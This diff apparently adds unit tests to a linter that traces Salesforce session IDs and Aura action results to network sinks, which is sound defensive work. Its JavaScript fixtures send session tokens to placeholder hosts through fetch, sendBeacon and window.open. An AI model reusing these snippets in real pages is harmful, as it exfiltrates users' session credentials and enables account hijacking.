@@ -43,6 +43,46 @@ def test_sfdc_session_global_read_is_a_source() -> None:
     assert kinds == [SourceKind.JS_SFDC_SESSION, SourceKind.JS_SFDC_SESSION]
 
 
+def test_session_read_on_a_name_that_holds_the_connection_is_a_source() -> None:
+    """U-7: `var conn = sforce.connection; conn.sessionId` reads the toolkit's session."""
+    ir = lower("var conn = sforce.connection;\nwindow.$soap = window.sforce.connection;\n"
+               "var a = conn.sessionId;\nvar b = $soap['sessionId'];\n"
+               "fetch('https://x.example.com/?s=' + a + b);")
+    assert [(s.kind, s.text) for s in ir.sources] == [
+        (SourceKind.JS_SFORCE_SESSION, "conn.sessionId"), (SourceKind.JS_SFORCE_SESSION, "$soap.sessionId")]
+    assert set(sink(ir, "fetch").sources) == {s.id for s in ir.sources}
+
+
+def test_session_destructured_out_of_the_connection_is_a_source_and_flows_on() -> None:
+    ir = lower("const { sessionId } = sforce.connection;\n"
+               "var conn = sforce.connection;\n"
+               "let { sessionId: sid, serverUrl } = conn;\n"
+               "const { sessionId: fallback = '' } = window.sforce.connection;\n"
+               "fetch('https://x.example.com/a?s=' + sessionId);\n"
+               "fetch('https://x.example.com/b', {headers: {Authorization: sid + serverUrl + fallback}});\n")
+    assert [(s.span.start_line, s.span.start_col) for s in ir.sources] == [(1, 9), (3, 7), (4, 9)]
+    assert all(s.kind == SourceKind.JS_SFORCE_SESSION for s in ir.sources)
+    a, b = sorted((u for u in ir.url_uses if u.sink == "fetch"), key=lambda u: u.span)
+    assert a.url == "https://x.example.com/a?s={sforce.connection.sessionId}" and a.in_query
+    assert set(b.sources) == {ir.sources[1].id, ir.sources[2].id} and b.header_or_body
+
+
+def test_session_id_of_other_objects_is_not_a_source() -> None:
+    code = ("var conn = makeChat();\nvar a = conn.sessionId;\nconst { sessionId } = conn;\n"
+            "const { sessionId: s } = { sessionId: 'x' };\nvar c = sforce.connection; c.sessionId = token;\n"
+            "({ sessionId } = sforce.connection);\n")
+    assert [s.span.start_line for s in lower(code).sources] == [6]  # the assignment's pattern reads it
+
+
+def test_sfdc_session_global_read_by_subscript_is_a_source() -> None:
+    """U-7: `window['__sfdcSessionId']` is the global as `window.__sfdcSessionId` is."""
+    ir = lower("var s = window['__sfdcSessionId'];\nconsole.log(s);\nwindow['__sfdcSessionId'] = t;\n"
+               "var k = {'__sfdcSessionId': 1};")
+    assert [(s.kind, s.text, s.span.start_line) for s in ir.sources] == [
+        (SourceKind.JS_SFDC_SESSION, "window.__sfdcSessionId", 1)]
+    assert sink(ir, "console.log").sources == (ir.sources[0].id,)
+
+
 def test_mentions_in_comments_and_strings_are_not_sources() -> None:
     code = (
         "// sforce.connection.sessionId is read elsewhere\n"
@@ -404,3 +444,65 @@ def test_every_fixture_request_mentions_a_word_of_the_sink_gate() -> None:
                     checked += 1
                     assert MAY_REQUEST_BYTES.search(data), (form.path, use.sink)
     assert checked > 10
+
+
+def test_url_constructor_resolves_a_path_against_the_pages_origin() -> None:
+    """U-13: `new URL('/services/…', window.location.origin)` is the page's origin and the path,
+    as the same URL concatenated is; a path against a literal base is on that base's host."""
+    ir = lower(SID + (
+        "fetch(new URL('/services/data/v61.0/limits', window.location.origin), {headers: {Authorization: sid}});\n"
+        "var q = new URL('services/apexrest/x', location.href);\n"
+        "$.ajax({url: q.href, headers: {Authorization: sid}});\n"
+        "var p = new URL('/v1/x', 'https://api.partner.example.com/base/');\n"
+        "navigator.sendBeacon(p.toString(), sid);\n"
+        "window.open(new URL('https://api.partner.example.com/o?s=' + sid));\n"))
+    assert sink(ir, "fetch").url == "{window.location.origin}/services/data/v61.0/limits"
+    assert sink(ir, "jQuery.ajax").url == "{location.origin}/{…}/services/apexrest/x"
+    assert sink(ir, "navigator.sendBeacon").url == "https://api.partner.example.com/v1/x"
+    opened = sink(ir, "window.open")
+    assert opened.in_query and opened.url == "https://api.partner.example.com/o?s={sforce.connection.sessionId}"
+
+
+def test_url_constructor_against_an_unknown_base_is_not_known() -> None:
+    from apexlint.lower.js_calls import resolve_url
+    from apexlint.lower.js_values import UNKNOWN, JsValue
+    assert resolve_url(JsValue(text="/services/data"), UNKNOWN).text == "{…}/services/data"
+    assert resolve_url(JsValue(text="https://a.example.com/x"), UNKNOWN).text == "https://a.example.com/x"
+    assert resolve_url(JsValue(text="?q=1"), JsValue(text="https://h.example.com/a/b?z")).text == \
+        "https://h.example.com/a/b?q=1"
+    assert resolve_url(JsValue(frozenset({"s"}), "/x"), JsValue(text="{window.location.origin}")).sources == {"s"}
+
+
+AURA_CONTROLLER = """({
+    sync: function (component, event, helper) {
+        var action = component.get('c.getToken');
+        action.setCallback(this, $A.getCallback(function (response) {
+            var sid = response.getReturnValue();
+            fetch('https://api.partner.example.com/v1/sync', {headers: {Authorization: 'Bearer ' + sid}});
+            fetch('https://api.partner.example.com/v1/state?s=' + response.getState() + component.get('v.id'));
+        }));
+        $A.enqueueAction(action);
+    }
+})"""
+
+
+def test_aura_action_return_value_is_handed_over_under_a_stand_in() -> None:
+    """U-9: what `c.getToken` returns reaches the callback's `response.getReturnValue()`."""
+    ir = lower(AURA_CONTROLLER, "force-app/main/default/aura/SyncCmp/SyncCmpController.js")
+    (use,) = ir.url_uses
+    assert use.sink == "fetch" and use.sources == ("client:aura:gettoken",) and use.header_or_body
+    assert use.url == "https://api.partner.example.com/v1/sync"
+
+
+def test_aura_actions_are_only_read_in_an_aura_bundle() -> None:
+    assert lower(AURA_CONTROLLER, "force-app/main/default/staticresources/sync.js").url_uses == ()
+
+
+def test_aura_markup_names_its_controller() -> None:
+    from apexlint.lower.aura import lower_aura_markup
+    markup = b'<aura:component implements="force:hasRecordId"\n  controller="acme.SyncCtl">\n</aura:component>'
+    (ir,) = lower_aura_markup("src/aura/SyncCmp/SyncCmp.cmp", markup, [])
+    assert ir.aura_controller == "acme.SyncCtl" and ir.sources == ()
+    assert lower_aura_markup("src/aura/SyncCmp/Other.cmp", markup, []) == []  # not the bundle's markup
+    assert lower_aura_markup("src/pages/SyncCmp/SyncCmp.cmp", markup, []) == []
+    assert lower_aura_markup("src/aura/Plain/Plain.cmp", b"<aura:component/>", []) == []
